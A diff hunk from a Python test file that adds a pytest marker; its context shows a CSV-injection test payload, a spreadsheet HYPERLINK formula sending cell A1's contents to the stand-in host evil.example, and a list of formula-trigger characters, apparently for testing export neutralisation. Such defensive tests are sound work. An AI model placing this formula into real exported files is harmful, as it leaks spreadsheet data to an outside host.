@@ -10,6 +10,8 @@ import pytest
 from chibo_flow.csv_export import neutralised
 from chibo_flow.workflow import apply_transition
 
+pytestmark = pytest.mark.one_database  # see tests/conftest.py
+
 PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
 STARTS = ["=", "+", "-", "@", "\t", "\r"]
 
